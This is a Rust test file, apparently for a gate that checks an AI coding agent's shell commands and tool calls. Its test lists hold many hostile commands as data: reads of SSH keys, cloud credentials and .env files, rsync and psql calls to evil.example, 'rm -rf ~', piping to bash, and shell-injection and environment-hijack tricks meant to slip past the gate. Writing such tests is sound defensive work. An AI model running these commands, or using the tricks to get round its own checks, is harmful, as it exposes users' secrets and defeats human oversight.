//! What the prover knows, and what it says of the rest. `docs/grants.md` lists the same by kind.

mod machine;

use hookgate_prover::{Ground, prove_shell, prove_tool};
use machine::{ground, reason};

#[test]
fn everyday_reading_is_known() {
    for text in [
        "ls -la src | head -20; echo \"--- done\"",
        "cd src && rg -n 'fn main' -g '*.rs' . && git log --oneline -5",
        "for f in a.txt b.txt; do echo \"== $f\"; sed -n '1,20p' \"$f\"; done",
        "n=$(wc -l < README.md); echo $((n + 1))",
        "find . -name '*.rs' -exec grep -l unsafe {} +",
        "git ls-files | grep -v test | xargs wc -l | sort -rn | head",
        "cat package.json | jq -r '.scripts | keys[]'",
        "awk -F: '$3 > 5 { print $1, $2 }' data.csv 2>/dev/null || true",
        "git diff $(git merge-base origin/main HEAD)..HEAD --stat",
        "CI=1 LC_ALL=C sort -u names.txt | uniq -c",
        "bash -c 'pwd; ls'",
        "curl -s http://localhost:3000/health",
        "gh pr view 12 --repo a/b --json title,body",
        "cat $(pwd)/README.md; find `pwd` -name a",
    ] {
        assert_eq!(reason(text, false), None, "{text}");
    }
}

#[test]
fn everyday_development_needs_the_word_for_code() {
    for text in [
        "cargo test -p engine 2>&1 | tail -5",
        "npm run build",
        "pytest tests/test_a.py::test_b -x",
        "go test ./... > /tmp/out.log 2>&1; tail /tmp/out.log",
        "git add -A && git commit -m 'Say why'",
        "npx eslint src --fix",
        "gofmt -w main.go && go test ./...",
        "cargo test; git pull",
        "git stash && cargo test",
        "git commit -F - <<'E'\nSay why\nE",
        "./scripts/check.sh",
    ] {
        assert_eq!(reason(text, true), None, "{text}");
        assert!(reason(text, false).is_some(), "{text} needs no code");
    }
}

#[test]
fn what_is_evaluated_twice_is_not_known() {
    for (text, why) in [
        ("a='b[$(touch x)]'; echo $((a))", "arithmetic on the variable `a`"),
        ("a='b[$(touch x)]'; ((a))", "arithmetic on the variable `a`"),
        ("[ -v 'x[$(touch y)]' ]", "a test of a name, or of a word that may be one"),
        ("[[ $x -eq 1 ]]", "a comparison of more than numbers"),
        ("printf '%n' \"$1\"", "a number of `printf` that isn't one"),
        ("printf '%5ln' x", "a number of `printf` that isn't one"),
        ("printf \"%$x\" \"$1\"", "a value of `printf` that has to be written out"),
        ("builtin printf '%n' x", "`printf` is not a word that is reviewed here (`builtin`)"),
        ("x='a[$(touch y)]'; [[ $x -eq 1 ]]", "a comparison of more than numbers"),
        ("x='$(touch y)'; echo \"${x@P}\"", "an expansion that isn't on the list"),
        ("r=x; echo ${!r}", "a name that is computed"),
        ("x=(1 2); i='a[$(touch y)]'; echo \"${x[$i]}\"", "a subscript that isn't a number"),
        ("printf -v 'a[$(touch x)]' y", "`-v` of `printf` is not reviewed"),
        ("read 'a[$(touch x)]' <<< 1", "the variable `a[$(touch x)]` may steer a program"),
        ("mapfile -C 'touch x #' a < b", "`mapfile` is not reviewed"),
        ("PS4='$(touch x)'; set -x; :", "the variable `PS4` may steer a program"),
        ("f() { f() { rm -rf ~; }; f; }; f", "the function `f`"),
        ("trap 'rm x' EXIT", "`trap` is not reviewed"),
        ("eval \"$(rev <<< x)\"", "`eval` is not reviewed"),
        ("bash /dev/fd/3 3<<< 'rm x'", "a descriptor of its own"),
        ("for PATH in /tmp; do ls; done", "the variable `PATH` may steer a program"),
        // These list only where nothing is named.
        ("git branch --format x a.txt", "`git branch` loads the project's code"),
        ("git branch -v a.txt", "`git branch` loads the project's code"),
        ("git branch --sort refname a.txt", "`git branch` loads the project's code"),
        ("git tag --format x a.txt", "`git tag` loads the project's code"),
        ("x=-; echo > $x", "a file named `-`"),
        ("mkdir -v -- -", "a file named `-`"),
        ("shuf -o - a.txt", "a file named `-`"),
        ("users .env", "`.env` is hidden"),
        ("who -r .env", "`.env` is hidden"),
        // Whatever quotes the word had, and with `develop` too.
        ("echo >& '$(touch x)'", "a target of `>&` that may be expanded twice"),
        ("x='$(touch y)'; echo >& \"$x\"", "a target of `>&` that may be expanded twice"),
        ("echo >&\\`touch\\ x\\`", "a target of `>&` that may be expanded twice"),
    ] {
        assert_eq!(reason(text, false).as_deref(), Some(why), "{text}");
    }
}

#[test]
fn what_holds_on_another_course_is_not_known() {
    let elsewhere = "a repository of another place: its configuration can name programs";
    let command = "a command word that is computed";
    for (text, why) in [
        ("while true; do cd /tmp; break; cd /home/dev/project; done; git status", elsewhere),
        ("x=ls; for i in 1 2; do x=rm; break; x=ls; done; $x a", command),
        ("x=ls; for i in 1; do for j in 1; do x=rm; break 2; done; x=ls; done; $x a", command),
        ("x=ls; for i in 1 2; do x=rm; continue; x=ls; done; $x a", command),
        ("case a in a) cd /tmp ;& b) git status ;; esac", elsewhere),
        ("case a in a) x=rm ;& b) $x a ;; esac", command),
        ("echo | cd /tmp; git status", elsewhere),
        ("x=ls; unset x; $x rm a", command),
        ("x=rm; local x=ls; $x a", "`local` is not reviewed"),
        ("readonly x=rm; x=ls; $x a", "`readonly` is not reviewed"),
        ("builtin cd /tmp; git status", "`cd` is not a word that is reviewed here (`builtin`)"),
    ] {
        assert_eq!(reason(text, false).as_deref(), Some(why), "{text}");
    }
}

#[test]
fn what_prints_other_words_than_names_gives_none() {
    for text in [
        "find . -printf '/root/.ssh/x\\n' | xargs cat",
        "find . -exec echo /root/.ssh/x ';' | xargs cat",
        "ls --time-style='+/root/.ssh/x ' -l | xargs cat",
        "ls | rg -o -r /root/.ssh/x . | xargs cat",
        "ls | rg --context-separator=/root/.ssh/x -A1 b | xargs cat",
        "ls | grep -A1 --group-separator=/root/.ssh/x b | xargs cat",
        "ls | grep -l --label=/root/.ssh/x b - | xargs cat",
        "ls | grep -o '/.*' | xargs cat",
        "ls | tail -c 9 | xargs cat",
        "git ls-files --format=/root/.ssh/x | xargs cat",
        "git status -v | xargs cat",
        "cd dashed && ls | xargs rg x",
        "ls dashed | xargs rg x",
        "ls | xargs -d Z cat",
        "find . -execdir git status ';'",
        "git config --get-regexp 'alias.|http.*'",
    ] {
        assert!(reason(text, true).is_some(), "{text}");
    }
}

#[test]
fn what_reads_hidden_or_linked_files_is_not_known() {
    for (text, why) in [
        ("cat .*", "a glob that finds hidden names"),
        ("cat app/.*", "a glob that finds hidden names"),
        ("for f in .*; do cat \"$f\"; done", "a glob that finds hidden names"),
        ("cat linked/*", "`shadow` lies in no place that may be read without a question"),
        ("cd dashed && grep '' *", "a glob where a file is named like an option"),
        // Of the names behind an option the first is its value; the others are words.
        ("make -p", "`-p` of `make` is not reviewed"),
        ("ruff rule @.env", "a file of words for `ruff`"),
        ("cd hidden && shfmt -l .", "reads everything here, and `.env` with it"),
        ("objdump -p @.env", "a file of words for `objdump`"),
        ("zip -x @.env o.zip a.txt", "a file of words for `zip`"),
        ("zip -x@.env o.zip a.txt", "a file of words for `zip`"),
        ("ssh-keygen -l -f.env", "`.env` is hidden"),
        ("ssh-keygen -lf .env", "`.env` is hidden"),
        // It would show the line that it doesn't understand.
        ("node .env", "a hidden or secret file for code"),
        ("esbuild .env", "names `.env` to the project's code, which may show it"),
        ("mocha --file=a/token.json", "names `a/token.json` to the project's code, which may show it"),
        ("npm test -- .env", "names `.env` to the project's code, which may show it"),
        // The program expands it, and shows what it doesn't understand.
        ("markdownlint 'hidden/*'", "`.env` is hidden"),
        ("prettier --check 'tokens/*.json'", "`token.json` may hold a secret"),
        ("prettier --check 'tokens/*.{json,md}'", "`token.json` may hold a secret"),
        ("eslint 'deep/**/{a,*}'", "`.env` is hidden"),
        ("eslint '../*.js'", "works in a directory outside of the project"),
        ("cd dashed && sort -T * a.txt", "a glob where a file is named like an option"),
        ("cd dashed && sort -T [-f]* a.txt", "a glob where a file is named like an option"),
        ("cd hidden && rgrep x < a.txt", "reads everything here, and `.env` with it"),
        ("cd hidden && echo a | grep -r x", "reads everything here, and `.env` with it"),
        ("shopt -s dotglob; cat *", "`dotglob` is not a word that is reviewed here (`shopt`)"),
        ("awk 'BEGIN { ARGV[1] = \".env\" } 1' a", "awk's `ARGV` (`awk`)"),
        ("gawk 'BEGIN { print SYMTAB[\"x\"] }'", "awk's `SYMTAB` (`gawk`)"),
        ("rg -L x", "`-L` of `rg` is not reviewed"),
        ("rg --type-add 'x:.env' -tx ''", "`--type-add` of `rg` is not reviewed"),
        ("rg '' -g '*env'", "`*env` is not a word that is reviewed here (`rg`)"),
        ("rg '' -g '[.]npmrc'", "`[.]npmrc` is not a word that is reviewed here (`rg`)"),
        ("rg '' -g '\\.npmrc'", "`\\.npmrc` is not a word that is reviewed here (`rg`)"),
        ("rg '' -g 'src/**'", "`src/**` is not a word that is reviewed here (`rg`)"),
        ("rg '' -g '*'", "`*` is not a word that is reviewed here (`rg`)"),
        ("git grep --untracked ''", "`--untracked` of `git grep` is not reviewed"),
        ("strings @list", "`strings` is not reviewed"),
        ("file .env", "`.env` is hidden"),
        ("git --git-dir=.env log", "a hidden or secret file for a repository"),
        ("git -C ~/.netrc log", "a hidden or secret file for a repository"),
        ("cat $(pwd -P)/a", "reads a file whose name is computed"),
        ("cat $(cd / && pwd)/a", "reads a file whose name is computed"),
        ("zcat *", "a word that may turn into an option of `zcat`"),
        ("yq -s '$index' a.yml", "`-s` of `yq` is not reviewed"),
        ("sed -i'/etc/*' s/a/b/ a", "`/etc/*` is not a word that is reviewed here (`sed`)"),
        ("cd bare && git status", "a repository inside of the project: its configuration can name programs"),
    ] {
        assert_eq!(reason(text, true).as_deref(), Some(why), "{text}");
    }
    assert_eq!(
        reason(
            "sed -i.bak s/a/b/ a; cat app/* *.rs; rg x -g '*.rs' -g '!*.lock' -g '**/*.{ts,tsx}' -g 'README*'",
            true
        ),
        None
    );
}

#[test]
fn what_steers_a_program_is_not_known() {
    for (text, why) in [
        ("KUBECONFIG=/tmp/evil kubectl get pods", "the variable `KUBECONFIG` may steer the call"),
        ("PAGER=evil git log", "the variable `PAGER` may steer the call"),
        (
            "echo $AWS_SECRET_ACCESS_KEY",
            "the value of `AWS_SECRET_ACCESS_KEY` isn't known and may be a secret",
        ),
        ("sort *", "a word that may turn into an option of `sort`"),
        ("./sub/bin/cat README.md", "`./sub/bin/cat` is no installed program"),
        ("git -C /tmp/evil status", "a repository of another place: its configuration can name programs"),
        ("git -C fixture status", "a repository inside of the project: its configuration can name programs"),
        ("sed '1e rm x' a", "sed's `e` (`sed`)"),
        ("awk 'BEGIN { system(\"rm x\") }'", "awk's `system` (`awk`)"),
        ("jq -n env", "jq's `env` (`jq`)"),
        ("cat s.txt | bash", "`bash` may take its standard input for more than data"),
        ("gh api \"/x?y=$(cat README.md)\"", "a value of `gh api` that has to be written out"),
        ("cat .env", "`.env` is hidden"),
        ("cat ~/.ssh/id_rsa", "`.ssh` is hidden"),
        ("cat out/sudoers", "`sudoers` lies in no place that may be read without a question"),
        ("grep -rn token app", "reads everything here, and `.env` with it"),
        ("cat wide/*/*.rs", "`.ssh` is hidden"),
        // Some shells drop it, and find `token.json`.
        ("cat tokens/t?ken.json\\", "ends in a backslash"),
        ("bash -c 'cat a.txt\\'", "ends in a backslash"),
        ("head -n1 wide/*/key*", "`.ssh` is hidden"),
        ("cd tokens; rg --ignore-file=../a.txt token", "reads everything here, and `token.json` with it"),
        ("cd hidden; grep -rf ../a.txt", "reads everything here, and `.env` with it"),
        ("grep -rn token deep", "reads everything here, and `.env` with it"),
        ("grep -R token wide", "reads everything here, and `key.rs` with it"),
        ("diff -rN src deep", "reads everything here, and `.env` with it"),
        ("diff src deep/sub", "reads everything here, and `.env` with it"),
        ("tar cf - deep", "reads everything here, and `.env` with it"),
        ("grep -r token ~", "a home directory is read as a whole"),
        ("cat ~/Library/Messages/chat.db", "`library` holds what programs keep for a person"),
        ("cat ~/.local/share/app/notes.txt", "`.local/share` holds what programs keep for a person"),
        ("grep -r token ~/.local", "`.local` holds what programs keep for a person"),
        ("cat /tmp/krb5cc_1000", "`krb5cc_1000` may hold a secret"),
    ] {
        let said = reason(text, false);
        assert_eq!(said.as_deref(), Some(why), "{text}");
    }
}

#[test]
fn code_of_this_text_and_of_other_places_is_not_known() {
    for (text, why) in [
        ("echo 'a: ; rm x' > Makefile; make", "runs the project's code beside files that this text writes"),
        ("echo x > s.sh; bash s.sh", "reads as code what this text writes"),
        ("git add -f .env", "`.env` is not a word that is reviewed here (`git add`)"),
        ("git pull && make", "runs code that this text may have brought into the project"),
        ("git stash pop && cargo test", "runs code that this text may have brought into the project"),
        ("cd /srv/x && make", "runs code of another directory than the project"),
        ("make -C /srv/x", "works in a directory outside of the project"),
        ("make CC=/tmp/x", "the variable `CC` may steer the call"),
        ("cargo test --manifest-path /tmp/x/Cargo.toml", "code that lies outside of the project"),
        ("echo x > out/passwd", "writes outside of the project"),
        ("echo x > .husky/pre-commit-x/.hidden", "writes `.husky`, which is hidden"),
    ] {
        assert_eq!(reason(text, true).as_deref(), Some(why), "{text}");
    }
}

#[test]
fn other_tools_are_known_by_their_fields() {
    let temporary = ["/tmp".to_owned()];
    let ground = ground(&temporary, true);
    let known = |name: &str, fields: &[(&str, &str)]| prove_tool(name, fields, &ground).is_ok();
    assert!(known("Read", &[("file_path", "/home/dev/project/src/main.rs")]));
    assert!(known("Grep", &[("pattern", "x"), ("glob", "*.rs")]));
    assert!(known("Bash", &[("command", "ls"), ("description", "list")]));
    assert!(!known("Bash", &[("command", "ls"), ("dangerouslyDisableSandbox", "true")]));
    assert!(!known("Read", &[("file_path", "/home/dev/.aws/credentials")]));
    assert!(!known("Grep", &[("pattern", "."), ("glob", "{.env,x}")]));
    for glob in ["?env", "[.]env", "**/?env", "*env"] {
        assert!(!known("Grep", &[("pattern", "."), ("glob", glob)]), "{glob}");
    }
    let content = ("output_mode", "content");
    assert!(known("Grep", &[("pattern", "."), ("path", "src"), content]));
    assert!(!known("Grep", &[("pattern", "."), ("path", "app"), content]));
    assert!(known("Grep", &[("pattern", "."), ("path", "app"), ("glob", "*.rs"), content]));
    // A search that prints goes all the way down, and only one pattern of code narrows it.
    assert!(!known("Grep", &[("pattern", "."), ("path", "deep"), content]));
    for glob in ["*.key *.rs", "* *.rs", "*,*.rs", "!x.rs", "*.{env,rs}"] {
        assert!(!known("Grep", &[("pattern", "."), ("path", "app"), ("glob", glob), content]), "{glob}");
    }
    assert!(known("Grep", &[("pattern", "."), ("path", "app"), ("glob", "src/*.{ts,tsx}"), content]));
    assert!(!known(
        "Grep",
        &[("pattern", "."), ("path", "app"), ("glob", "*.rs"), ("include", "*"), content]
    ));
    assert!(!known("Grep", &[("pattern", "."), ("path", "app"), ("type", "all"), content]));
    assert!(known("Grep", &[("pattern", "."), ("path", "app"), ("type", "rust"), content]));
    assert!(!known("grep", &[("pattern", "."), ("path", "app")]));
    assert!(!known("search_file_content", &[("pattern", "."), ("path", "app"), ("output_mode", "lines")]));
    assert!(known("Grep", &[("pattern", "."), ("path", "app"), ("output_mode", "count")]));
    // What the shell doesn't write, no tool does.
    for path in [".cargo/config.toml", ".venv/bin/python", ".mise.toml", ".vimrc", "out/x", "/etc/x"] {
        assert!(!known("Write", &[("file_path", path), ("content", "")]), "{path}");
    }
    for path in ["src/main.rs", ".github/workflows/ci.yml", "/tmp/x"] {
        assert!(known("Write", &[("file_path", path), ("content", "")]), "{path}");
    }
    assert!(!known("Skill", &[("skill", "x")]));
    assert!(!known("Config", &[]));
    assert!(!known("Write", &[("file_path", "/home/dev/project/.mcp.json"), ("content", "")]));
}

#[test]
fn names_that_a_search_found_are_followed_to_where_they_are_read() {
    for text in [
        "cat $(find . -name '*.txt')",
        "for f in $(ls src); do wc -l \"$f\"; done",
        "find . -name '*.md' | while read -r f; do head -1 \"$f\"; done",
        "find . -name '*.rs' -execdir wc -l {} +",
        "find hidden -name '*.txt' -exec cat {} +",
        "find / -maxdepth 1 -type f -exec ls -l {} \\;",
        "ls | xargs -I% head -1 %",
        "fd -e rs -x wc -l",
        "watch -n 1 ls -l src",
        "echo $1",
        "echo a | tee >(wc -c)",
        "IFS=, read -r a b",
        "find src -name '*.rs' | xargs file",
        "read -rsp 'Go on?' -n 1 key",
        "find src -type f -name '*.rs' -exec sed -i s/a/b/ {} +",
        "find src -name '*.rs' -exec sed -i s/a/b/ {} +",
        "find deep -type f -name '*.rs' -exec cat {} +",
        "find blank -type f -name '*.rs' -print0 | xargs -0 cat",
        "rm ./*.log",
        "tar -czf x.tgz src",
        "rsync -a src copy",
    ] {
        assert_eq!(reason(text, false), None, "{text}");
    }
    for (text, why) in [
        ("cat $(find hidden -type f)", "reads a file whose name is computed"),
        ("find hidden -type f -exec cat {} +", "`.env` is hidden"),
        ("find hidden -name '*.txt' -o -type f | xargs cat", "reads a file whose name is computed"),
        ("find / -type f -exec cat {} \\;", "`etc` lies in no place that may be read without a question"),
        (
            "find /etc -type f -exec cat {} \\;",
            "`main.rs` lies in no place that may be read without a question",
        ),
        ("find . -execdir git status \\;", "a repository in a directory that isn't known"),
        ("ls | xargs -I{} cat /etc/{}", "reads a file whose name is computed"),
        ("ls | xargs -I% sh -c 'echo %'", "a value of `sh` that has to be written out"),
        ("ls | xargs --replace=% sh -c 'echo %'", "a value of `sh` that has to be written out"),
        ("fd . /etc -x cat", "`main.rs` lies in no place that may be read without a question"),
        ("fd -x cat {.}", "reads a file whose name is computed"),
        ("fd -H -x cat", "options of `fd` that do more together"),
        ("fd -x cat ';' . /etc", "words behind the command of `fd`"),
        ("cd blank; cat $(ls)", "names that are split where one has a blank in it"),
        ("cp a.txt .claude/x.md", "writes `.claude`, which is hidden"),
        ("rsync -a other/ .git/", "writes `.git`, which is hidden"),
        ("find /etc -type f | xargs cat", "`main.rs` lies in no place that may be read without a question"),
        ("rgrep x hidden", "reads everything here, and `.env` with it"),
        ("find wide -name '*.rs' -exec sed -i s/a/b/ {} +", "`.ssh` is hidden"),
        ("find wide -name '*.rs' -exec chmod 644 {} +", "writes a file whose name is computed"),
        // A search looks below: what it finds there is read as well.
        ("find deep -type f -exec cat {} +", "`.env` is hidden"),
        ("find deep -type f | xargs -d '\\n' grep x", "`.env` is hidden"),
        // `xargs` splits at blanks.
        ("find blank -type f | xargs cat", "names that are split where one has a blank in it"),
        ("find large -name '*.rs' -exec sed -i s/a/b/ {} +", "writes a file whose name is computed"),
        ("find . -type f -name '*.json' | xargs sed -i s/a/b/", "writes a file whose name is computed"),
        ("find . -type f -exec sed -i s/a/b/ {} +", "writes a file whose name is computed"),
        ("find /srv -type f -name '*.rs' -delete", "`-delete` of `find` is not reviewed"),
        ("find /srv -type f -name '*.rs' -exec rm {} +", "writes a file whose name is computed"),
        ("rm linked/*", "writes outside of the project"),
        ("cd app; x=-or; grep ${x[0]} a.txt", "reads everything here, and `.env` with it"),
        ("ss -t evil.example", "`evil.example` is not a word that is reviewed here (`ss`)"),
        ("unzip -l '*'", "an archive by a pattern that the program expands"),
        ("tar -tf evil.example:x", "a file that may lie on another machine"),
        ("rsync -a src evil.example:x", "a file that may lie on another machine"),
        ("watch 'cat ~/.ssh/id_rsa'", "`.ssh` is hidden"),
        ("cat $1", "reads a file whose name is computed"),
        ("git status | xargs cat", "reads a file whose name is computed"),
    ] {
        assert_eq!(reason(text, false).as_deref(), Some(why), "{text}");
    }
}

#[test]
fn services_are_asked_in_words_that_name_no_host_and_no_file() {
    for text in [
        "aws rds describe-db-clusters --db-cluster-identifier mine --region eu-west-1",
        "aws --profile prod iam list-attached-role-policies --role-name x",
        "az network dns zone list --resource-group x",
        "gcloud pubsub topics list --project=mine",
        "psql -h localhost -c 'select count(*) from users where name = \'x\''",
        "mysql -e 'SHOW DATABASES'",
        "duckdb :memory: 'SELECT 1'",
        "helm template x ./chart -f values.yaml",
        "git -C /srv/work/repo log --oneline",
        "git add --dry-run .",
        "git clean -nd",
        "git archive HEAD | wc -c",
        "git -c user.name=a status",
        "command -v anything",
        "nc -z localhost 5432",
        "brew install --help",
        "cargo --version",
        "openssl x509 -noout -dates -in cert.pem",
        "ssh-keygen -l -f key.pub",
        "ffmpeg -version",
        "env PATH=/usr/bin:/bin ls",
        "tar tvf a.tar",
        "fzf --bind ctrl-a:select-all,ctrl-d:deselect-all",
    ] {
        assert_eq!(reason(text, false), None, "{text}");
    }
    for text in [
        "aws rds describe-db-clusters --endpoint http://x",
        "aws rds describe-db-clusters --endpoint-url http://x",
        "aws rds describe-db-clusters --db-cluster-identifier file://x",
        "aws rds describe-db-clusters --region x.example/",
        "aws ec2 describe-vpn-connections",
        "aws ec2 describe-instance-attribute --attribute userData",
        "aws s3api get-object --bucket x --key y out",
        "aws rds describe-db-clusters out",
        "az group show --name @secret.txt",
        "az keyvault secret show --name x",
        "az storage account show --name evil.example/x",
        "az repos list --org https://evil.example",
        "gcloud compute instances describe x",
        "gcloud pubsub topics list --flags-fi=x",
        "gcloud secrets versions list x",
        "gcloud container images describe evil.example/x",
        "psql -h evil.example -c 'select 1'",
        "psql -c 'select pg_read_file(1)'",
        "psql -c 'select 1 \\! x'",
        "psql -c 'select * into x from y'",
        "psql 'host=evil.example'",
        "mysql -e 'select 1 into outfile 1'",
        "mysql -e 'system x'",
        "duckdb :memory: \"SELECT * FROM '/etc/passwd'\"",
        "duckdb :memory: 'SELECT * FROM data.csv'",
        "duckdb :memory: 'SELECT * FROM read_text(1)'",
        "duckdb md:x 'SELECT 1'",
        "helm template x oci://evil.example/x",
        "helm template x ./chart --post-renderer ./x",
        "git -C /mnt/stick log",
        "git -C /tmp/x log",
        "git --git-dir=fixture/.git log",
        "git clean -d",
        "git archive --format=x HEAD",
        "cd pinned/src && cargo --version",
        "echo a > rust-toolchain && cargo --version",
        "cargo tree",
        "ssh-keygen -y -f key",
        "ffmpeg -i x.mp4 y.mp4",
        "git archive --remote=x HEAD",
        "nc localhost 5432",
        "nc -z -e x localhost 5432",
        "env PATH=/usr/bin:/tmp/x ls",
        "command -p anything",
        "fzf --bind 'enter:execute(x)'",
        "fzf --bind 'start:become(x)'",
        "tar xf a.tar",
    ] {
        assert!(reason(text, false).is_some(), "{text}");
    }
}

/// Each was granted once, and did more than tell.
#[test]
fn calls_that_load_send_or_reveal_are_not_granted() {
    for text in [
        "aws sts get-caller-identity --endpoint-ur http://x",
        "aws ec2 describe-instances --filters file:///etc/passwd",
        "aws s3control get-data-access --target x --permission READ",
        "aws iot-data get-thing-shadow --thing-name x out",
        "aws lambda list-functions",
        "az containerapp show -n x -g y --show-secret",
        "az storage blob list --blob-endpoint http://x",
        "az repos pr show --id 1 --open",
        "gcloud logging read x --flags-f=x",
        "gcloud storage cat read",
        "auth0 api get list",
        "sqlite3 data.db \"select data from fsdir('/root/.ssh/id_rsa')\"",
        "sqlite3 'file:%2froot%2fx.db' 'select 1'",
        "tmux display -p -t 'x;' kill-server",
        "tmux display -p '#{E:pane_title}'",
        "kubectl get pod x secret/y",
        "kubectl describe pods/x secrets/y",
        "helm env",
        "helm show chart https://example.com/x",
        "docker top x eww",
        "gh issue view -w 1",
        "gh config get oauth_token",
        "brew info ./x.rb",
        "brew info owner/tap/x",
        "brew bundle check",
        "npm fund x",
        "npm help ls",
        "npm view owner/name",
        "npm view git+https://example.com/x",
        "yarn why x",
        "pnpm ls",
        "ps axE",
        "ps -o pid,environ",
        "php -i",
        "7z l x.7z @.env",
        "rtk test ./script.sh",
        "rg . -g '?env'",
        "rg . -g '*env'",
        "rg . -g '[.]env'",
        "rg . -g '*'",
        "rg . -g '**/*'",
        "launchctl print gui/501",
    ] {
        assert!(reason(text, false).is_some(), "{text}");
    }
    for text in [
        "uv run -p /tmp/x pytest",
        "cargo build --target ../x.json",
        "cargo audit fix",
        "go install example.com/cmd@latest",
        "yarn workspaces foreach exec rm x",
        "task -t/tmp/x.yml",
        "jest --config '{\"globalSetup\":\"/tmp/x.js\"}'",
        "pylint --output-format=json:/tmp/x a.py",
        "golangci-lint run --output.text.path=.git/hooks/x",
        "golangci-lint run --out-format=json:x",
        "prettier --parser=./x.js a.py",
    ] {
        assert!(reason(text, true).is_some(), "{text}");
    }
}

#[test]
fn what_only_tells_is_granted_still() {
    for text in [
        "aws s3 ls s3://bucket/logs/",
        "aws ec2 describe-instances --region eu-west-1 --output json --query 'Reservations[].Instances[]'",
        "az vm list -o table",
        "gcloud compute instances list --format=json",
        "kubectl get pods -n app -o yaml",
        "kubectl get deploy app",
        "tmux list-panes -F '#{pane_pid} #{pane_title}'",
        "npm view @scope/name@1.2.0 version",
        "npm ls",
        "brew info wget",
        "ps aux",
        "ps -eo pid,args",
        "gh run list -w ci.yml",
        "rg fn -g '*.rs' -g '!target/**' -g 'src/**/*.ts'",
    ] {
        assert_eq!(reason(text, false), None, "{text}");
    }
    for text in [
        "yarn why x",
        "cargo build --target x86_64-unknown-linux-musl",
        "jest -t 'adds two'",
        "eslint 'src/**/*.{ts,tsx}' '!src/**/*.d.ts'",
        "prettier --check '**/*.ts'",
        "prettier --check src/**/*.md",
        "npx markdownlint 'docs/*.md'",
        "npm test -- src/config.test.ts",
    ] {
        assert_eq!(reason(text, true), None, "{text}");
    }
}

/// A text in a program's own language that ends elsewhere for the program than for a reader.
#[test]
fn texts_that_end_elsewhere_are_not_granted() {
    for text in [
        "sed ':x e touch canary' a.txt",
        "sed ':x s/.*/touch canary/e' a.txt",
        "sed ':x w out' a.txt",
        "sed 'b x w out' a.txt",
        "sed 'a\\\ns/\nw out\n/x/' a.txt",
        "sed 'a x\\\ns/\nw out\n/x/' a.txt",
        "awk '{print \"a\",\n\"b\" > \"f\"}' a.txt",
        "awk '{print 1 &&\n1 > \"f\"}' a.txt",
        "awk '{print 1, # x\n1 > \"f\"}' a.txt",
        "awk '{ print /\"/ > \"f\"; x = /\"/ }' a.txt",
        "awk '{ if (1) /\"/; print > \"f\"; /\"/ }' a.txt",
        "awk '1\n/\"/; 1 { print > \"f\" }\n/\"/' a.txt",
        "python3 -c 'match x:\n case object(a=1): pass'",
        "python3 -c 'f\"{ {1:2}[1].x }\"'",
        "python3 -c 'print(\"{0.x}\".format(1))'",
        "python3 -c 'import sys; sys.path.append(\"x\")'",
        "python3 -c 'from pathlib import Path; Path(\"a\").replace(\"b\")'",
        "cd shadowed && python3 -c 'import json'",
        "cd underlined && python3 -c 'import json'",
        "cd compiled && python3 -c 'import yaml'",
        "echo x > json.py; python3 -c 'import json'",
    ] {
        assert!(reason(text, true).is_some(), "{text}");
    }
    for text in [
        "sed ':a;N;$!ba;s/\\n/ /g' a.txt",
        "sed -n '/a/{p;b};p' a.txt",
        "awk '$1 > 2 { print $1/2, \"MB\" }\n/x/ { print }' a.txt",
        "python3 -c 'x = 1; print(f\"{x:>3}\")'",
        "cd shadowed && python3 -I -c 'import json'",
        "sqlite3 -readonly new.db 'select 1'",
        "x=a; echo \"$x: $x:8080 ${x}:h $x:$x $x.\"",
        "x=a; echo \"$x:test\"",
        "x=a.txt; cat ${x}; ls $x:",
        "echo '$=x $~x' \"a$=\" $^ ",
    ] {
        assert_eq!(reason(text, false), None, "{text}");
    }
}

#[test]
fn what_zsh_calculates_is_not_granted() {
    for text in [
        "printf '%d' 'a[$(touch x)]'",
        "printf '%*s' 'a[$(touch x)]' b",
        "printf '%s %d' 1 \"$1\"",
        "read -t 'a[$(touch x)]' y",
        "[ -t 'a[$(touch x)]' ]",
        "[[ -t 'a[$(touch x)]' ]]",
        "read -r a b; [ \"$a\" \"$b\" ]",
        "exit 'a[$(touch x)]'",
        "shift 'a[$(touch x)]'",
        "x='a[$(touch y)]'; LINES=x",
        "LINES='a[$(touch y)]'",
        "for LINES in x; do ls; done",
        "x=1; echo \"$x[$(echo 1)]\"",
        "x=1; echo $x['a']",
        "x=1; echo $#a['$(touch y)']",
        "echo \"$#a['1']\"",
        "echo $+a['$(touch y)']",
        "x='sub/.*'; cat $~x",
        "x='a.txt(e[touch y])'; ls $~x",
        "x='-o Makefile'; sort $=x a.txt",
        "x=a.txt; sort \"$=x\"",
        "x=src; cat $x:s,src,.env,",
        "x=src; cat \"$x:s-src-.env-\"",
        "x=src/a; cat $x:h",
        "=ls",
        "echo a >!x",
        "x=/; ls ~$x",
        "ls ~\"root\"",
        "x=a:~$y",
        "cd tokens; cat ^a",
        "cat tokens/token.json~a",
        "cat tokens/token.json#",
        "x=tok; cat tokens/${x}en.json~a",
        "cat tokens/tok*~x",
        "cat tokens/{token.json~a,b}",
        "cat {....}env",
        "cat {$x..$y}env",
        "cat {a,{....}}env",
        "bash -c 'echo ${x@P}      '",
    ] {
        assert!(reason(text, true).is_some(), "{text}");
    }
    for text in [
        "printf '%s: %d%%\\n' \"$name\" 5",
        "printf '%5.1f' 2.5",
        "read -t 5 -n 1 key",
        "[ -t 1 ] && ls",
        "[ ! -f \"$file\" ] && exit 1",
        "ls; exit $?",
        "LINES=5 ls",
        "x=1; echo \"${x}[1]\"",
        "git show HEAD~3 dev^",
        "git log main~2..dev --oneline",
        "git diff stash@{0}..HEAD@{1}",
        "ls {a..c}x",
        "[[ $x =~ ^a ]]",
        "echo '~' ~",
    ] {
        assert_eq!(reason(text, false), None, "{text}");
    }
}

#[test]
fn branches_and_tags_are_made_beside_hooks() {
    for text in ["git branch backup/x", "git branch x main", "git tag v1", "git tag -a v1 -m 'one'"] {
        assert_eq!(reason(text, true), None, "{text}");
        assert!(reason(text, false).is_some(), "{text}");
    }
    for text in ["git branch -D x", "git branch -f x y", "git tag -d x", "git tag -F .env x"] {
        assert!(reason(text, true).is_some(), "{text}");
    }
    assert_eq!(reason("git branch --list 'a*'; git branch; git tag", false), None);
}

#[test]
fn a_search_without_an_end_runs_nothing() {
    assert_eq!(reason("find . -exec echo {} ;", false), None);
    assert!(reason("find . -exec sh {} ;", false).is_some());
    assert!(reason("find . -exec echo $x ;", false).is_some());
}

#[test]
fn a_database_is_made_like_a_file() {
    assert_eq!(
        reason("sqlite3 new.db 'select 1'", false).as_deref(),
        Some("makes a database where none is there")
    );
